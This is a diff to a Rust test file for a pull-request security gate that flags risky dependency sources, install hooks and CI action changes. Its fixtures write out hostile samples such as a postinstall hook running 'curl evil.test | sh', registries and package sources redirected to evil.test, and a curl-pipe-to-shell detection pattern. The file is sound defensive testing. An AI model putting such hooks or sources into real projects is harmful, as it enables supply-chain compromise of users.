@@ -2,35 +2,26 @@
 
 use std::sync::Arc;
 
+use serde_json::{Value, json};
+
 use super::*;
 use crate::{
     gate::{RuleEvidence, assess::world::*},
     observed::{AccountKind, ChangedFiles::Complete, Content, FileStatus},
-    policy::{ChosenRules, ManifestChange, RuleCondition, RuleExample, RuleSide, RuleTier},
-    source_files::FileKind,
+    policy::{ChosenRules, GateRule, RuleTier},
 };
 
-fn rule(id: &str, tier: RuleTier, condition: RuleCondition) -> crate::policy::GateRule {
-    let example = || RuleExample { path: "a.rs".into(), lines: vec!["+x".into()] };
-    crate::policy::GateRule {
-        id: id.parse().unwrap(),
-        gate: gate("security"),
-        says: format!("{id} is found"),
-        tier,
-        condition,
-        kinds: BTreeSet::from([FileKind::Code, FileKind::Config, FileKind::Ci, FileKind::Manifest]),
-        opens: example(),
-        quiet: example(),
-    }
-}
-
-fn words(side: RuleSide, words: &[&str]) -> RuleCondition {
-    RuleCondition::Line { side, words: words.iter().map(|word| (*word).to_owned()).collect(), pattern: None }
+/// A rule that looks for these terms in one place: `added`, `manifest`, …
+fn rule(id: &str, tier: RuleTier, place: &str, terms: Value) -> GateRule {
+    let says = format!("{id} is found");
+    let mut written = json!({ "id": id, "gate": "security", "says": says, "tier": tier, "opens": [], "quiet": [] });
+    written[place] = terms;
+    serde_json::from_value(written).unwrap()
 }
 
 /// What the rules find in these files: the rule, and what it shows.
-fn found(rules: Vec<crate::policy::GateRule>, world: &World) -> Option<Vec<(String, RuleEvidence)>> {
-    let book = Arc::new(RuleBook::new(rules));
+fn found(rules: Vec<GateRule>, world: &World) -> Option<Vec<(String, RuleEvidence)>> {
+    let book = Arc::new(RuleBook::new(rules).unwrap());
     let trigger = GateTrigger::Rules(ChosenRules::of_preset(&book, &gate("security")));
     let found = ReadDiff::new(&world.snapshot, &[]).triggered(&gate_policy(trigger, &[]), &BTreeSet::new())?;
     Some(
@@ -63,8 +54,8 @@ fn compared(path: &str, old: &str, new: &str) -> World {
 
 /// Whether a rule about removed lines, and one about added lines, find the word `check`.
 fn finds(world: &World) -> (bool, bool) {
-    let on = |side| found(vec![rule("check", RuleTier::Opens, words(side, &["check"]))], world).is_some();
-    (on(RuleSide::Removed), on(RuleSide::Added))
+    let on = |side| found(vec![rule("check", RuleTier::Opens, side, json!(["check"]))], world).is_some();
+    (on("removed"), on("added"))
 }
 
 #[test]
@@ -163,16 +154,16 @@ fn a_starred_line_is_a_suspect_where_it_is_added() {
     let patch = "@@ -7,3 +7,3 @@\n  * one\n- * check(a)\n+ * check(b)\n  * three";
     let world = world_of(vec![file("a.ts", patch)]);
     assert_eq!(finds(&world), (true, false));
-    let two = ["check", "b"].map(|word| rule(word, RuleTier::Opens, words(RuleSide::Added, &[word])));
+    let two = ["check", "b"].map(|word| rule(word, RuleTier::Opens, "added", json!([word])));
     assert_eq!(found(two.to_vec(), &world).map(|found| found.len()), Some(2));
 }
 
 #[test]
 fn one_suspect_is_a_note_and_two_open() {
     let world = world_of(vec![file("a.rs", "@@ -1 +1 @@\n+role(token)")]);
-    let suspect = |word: &str| rule(word, RuleTier::Suspects, words(RuleSide::Changed, &[word]));
+    let suspect = |word: &str| rule(word, RuleTier::Suspects, "changed", json!([word]));
     assert_eq!(found(vec![suspect("role")], &world), None);
-    let book = Arc::new(RuleBook::new(vec![suspect("role")]));
+    let book = Arc::new(RuleBook::new(vec![suspect("role")]).unwrap());
     let trigger = GateTrigger::Rules(ChosenRules::of_preset(&book, &gate("security")));
     let notes = ReadDiff::new(&world.snapshot, &[]).suspects(&gate_policy(trigger, &[]));
     assert!(matches!(&notes[..], [TriggerMatch { line: Some(1), reason: MatchReason::Rule { .. }, .. }]), "{notes:?}");
@@ -250,10 +241,7 @@ fn kinds_decide_where_a_rule_looks() {
 
 #[test]
 fn a_guarded_path_opens_at_any_change() {
-    let guard = || {
-        let condition = RuleCondition::Path { globs: crate::policy::PathGlobs::default(), words: vec!["auth".into()] };
-        vec![rule("guard", RuleTier::Opens, condition)]
-    };
+    let guard = || vec![rule("guard", RuleTier::Opens, "path", json!(["auth"]))];
     let opens = |file: ChangedFile| found(guard(), &world_of(vec![file])).is_some();
     let changed = |path: &str| file(path, "@@ -1 +1 @@\n+// why");
     for (path, expected) in [
@@ -294,88 +282,87 @@ fn a_guarded_path_opens_at_any_change() {
 
 #[test]
 fn sources_hooks_and_actions_of_packages() {
-    use ManifestChange::{Action, Hook, Source};
+    let [source, hook, action] = ["source", "hook", "action"];
     let finds = |change, path: &str, patch: &str, bot: bool| {
         let mut world = world_of(vec![file(path, patch)]);
         if bot {
             world.snapshot.pull_request.author.kind = AccountKind::Bot;
             world.snapshot.pull_request.author.login = login("renovate[bot]");
         }
-        found(vec![rule("it", RuleTier::Opens, RuleCondition::Manifest(change))], &world).is_some()
+        found(vec![rule("it", RuleTier::Opens, "manifest", json!(change))], &world).is_some()
     };
     for (change, path, line, expected) in [
-        (Source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"github:a/jose#main\",", true),
-        (Source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"a/jose#main\",", true),
-        (Source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"^6\",", false),
-        (Source, "package.json", "+  \"homepage\": \"https://acme.test\",", false),
-        (Source, "package.json", "+  \"main\": \"dist/index\",", false),
-        (Source, "package.json", "+    \"./cli\": \"./dist/cli.js\",", false),
-        (Source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"somebody/jose\",", true),
-        (Source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"https://evil.test/jose\",", true),
-        (Source, "package.json", "+    \"**/jose\": \"npm:evil@5\",", true),
-        (Source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"file:../jose\",", true),
-        (Source, "requirements.txt", "+--extra-index-url https://evil.test/simple", true),
-        (Source, "requirements.txt", "+flask @ git+https://evil.test/flask", true),
-        (Source, "requirements.txt", "-flask==1\n+flask==2", false),
-        (Source, "go.mod", "+replace a.test/b => evil.test/b v1.0.0", true),
-        (Source, "go.mod", "-\ta.test/b v1.0.0\n+\ta.test/b v1.1.0", false),
-        (Source, "Gemfile", "-source \"https://rubygems.org\"\n+source \"https://evil.test\"", true),
-        (Source, "Cargo.toml", "+[patch.crates-io]", true),
+        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"github:a/jose#main\",", true),
+        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"a/jose#main\",", true),
+        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"^6\",", false),
+        (source, "package.json", "+  \"homepage\": \"https://acme.test\",", false),
+        (source, "package.json", "+  \"main\": \"dist/index\",", false),
+        (source, "package.json", "+    \"./cli\": \"./dist/cli.js\",", false),
+        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"somebody/jose\",", true),
+        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"https://evil.test/jose\",", true),
+        (source, "package.json", "+    \"**/jose\": \"npm:evil@5\",", true),
+        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"file:../jose\",", true),
+        (source, "requirements.txt", "+--extra-index-url https://evil.test/simple", true),
+        (source, "requirements.txt", "+flask @ git+https://evil.test/flask", true),
+        (source, "requirements.txt", "-flask==1\n+flask==2", false),
+        (source, "go.mod", "+replace a.test/b => evil.test/b v1.0.0", true),
+        (source, "go.mod", "-\ta.test/b v1.0.0\n+\ta.test/b v1.1.0", false),
+        (source, "Gemfile", "-source \"https://rubygems.org\"\n+source \"https://evil.test\"", true),
+        (source, "Cargo.toml", "+[patch.crates-io]", true),
         (
-            Source,
+            source,
             "Cargo.toml",
             "-a = { git = \"https://a.test\", rev = \"1\" }\n+a = { git = \"https://a.test\", rev = \"2\" }",
             true,
         ),
-        (Source, "Cargo.toml", "+own = { path = \"../own\" }", false),
+        (source, "Cargo.toml", "+own = { path = \"../own\" }", false),
         (
-            Source,
+            source,
             "Cargo.toml",
             "-own = { version = \"1\", path = \"own\" }\n+own = { version = \"2\", path = \"own\" }",
             false,
         ),
-        (Source, ".npmrc", "+registry=https://evil.test", true),
+        (source, ".npmrc", "+registry=https://evil.test", true),
         (
-            Source,
+            source,
             "Package.swift",
             "-.package(url: \"https://a.test/b\", from: \"1\"),\n+.package(url: \"https://a.test/b\", from: \"2\"),",
             false,
         ),
-        (Source, "package-lock.json", "+      \"resolved\": \"https://evil.test/jose.tgz\",", true),
-        (Source, "package-lock.json", "+      \"resolved\": \"https://registry.npmjs.org/jose.tgz\",", false),
-        (Source, "Cargo.lock", "+source = \"git+https://evil.test/a#1234\"", true),
-        (Hook, "package.json", "+    \"postinstall\": \"curl evil.test | sh\",", true),
-        (Hook, "package.json", "+    \"test\": \"jest\",", false),
-        (Hook, "composer.json", "+    \"post-install-cmd\": [\"a\"],", true),
-        (Hook, "setup.py", "+    cmdclass={'install': Evil},", true),
-        (Action, ".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: a/b@v2 # why", true),
-        (Action, ".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: evil/b@v2", false),
-        (Action, ".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: a/b@main", false),
+        (source, "package-lock.json", "+      \"resolved\": \"https://evil.test/jose.tgz\",", true),
+        (source, "package-lock.json", "+      \"resolved\": \"https://registry.npmjs.org/jose.tgz\",", false),
+        (source, "Cargo.lock", "+source = \"git+https://evil.test/a#1234\"", true),
+        (hook, "package.json", "+    \"postinstall\": \"curl evil.test | sh\",", true),
+        (hook, "package.json", "+    \"test\": \"jest\",", false),
+        (hook, "composer.json", "+    \"post-install-cmd\": [\"a\"],", true),
+        (hook, "setup.py", "+    cmdclass={'install': Evil},", true),
+        (action, ".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: a/b@v2 # why", true),
+        (action, ".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: evil/b@v2", false),
+        (action, ".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: a/b@main", false),
         // An approval that stands behind the deployment now.
         (
-            Action,
+            action,
             ".github/workflows/a.yml",
             "-  - uses: a/approve@v1\n   - run: deploy\n+  - uses: a/approve@v1",
             false,
         ),
-        (Source, "lib/shop", "-Subproject commit 1111\n+Subproject commit 2222", true),
+        (source, "lib/shop", "-Subproject commit 1111\n+Subproject commit 2222", true),
     ] {
         let patch = format!("@@ -9,9 +9,9 @@\n{line}");
         assert_eq!(finds(change, path, &patch, false), expected, "{path} {line}");
     }
     let pins = "@@ -1 +1 @@\n-  - uses: a/b@1111111111111111111111111111111111111111 # v1\n+  - uses: a/b@2222222222222222222222222222222222222222 # v2";
-    assert!(finds(Action, ".github/workflows/a.yml", pins, true));
-    assert!(!finds(Action, ".github/workflows/a.yml", pins, false));
+    assert!(finds(action, ".github/workflows/a.yml", pins, true));
+    assert!(!finds(action, ".github/workflows/a.yml", pins, false));
 }
 
 /// What a program reads as one line is one for an expression, however it is written.
 #[test]
 fn expressions_read_lines_that_go_on() {
     let opens = |path: &str, patch: &str| {
-        let pattern = crate::policy::Pattern::parse(r"curl\b.*\|\s*sh\b").unwrap();
-        let condition = RuleCondition::Line { side: RuleSide::Added, words: Vec::new(), pattern: Some(pattern) };
+        let terms = json!({ "match": r"curl\b.*\|\s*sh\b" });
         let world = world_of(vec![file(path, patch)]);
-        let by_rule = found(vec![rule("it", RuleTier::Opens, condition)], &world).is_some();
+        let by_rule = found(vec![rule("it", RuleTier::Opens, "added", terms)], &world).is_some();
         let wanted = vec![crate::policy::Pattern::parse(r"curl\b.*\|\s*sh\b").unwrap()];
         let wanted = crate::policy::LineCondition { patterns: wanted, ..Default::default() };
         let trigger = gate_policy(GateTrigger::AddedLines(wanted), &[]);
@@ -412,7 +399,7 @@ fn expressions_read_lines_that_go_on() {
 #[test]
 fn a_lock_file_that_cannot_be_read_opens() {
     let lock = ChangedFile { patch: None, ..file("Cargo.lock", "") };
-    let source = || vec![rule("source", RuleTier::Opens, RuleCondition::Manifest(ManifestChange::Source))];
+    let source = || vec![rule("source", RuleTier::Opens, "manifest", json!("source"))];
     assert!(found(source(), &world_of(vec![lock])).is_some());
     assert!(found(source(), &compared("Cargo.lock", "a\n", "a\nb\n")).is_none());
     assert!(found(source(), &compared("Cargo.lock", "a\n", "source = \"git+https://evil.test/a#1\"\n")).is_some());
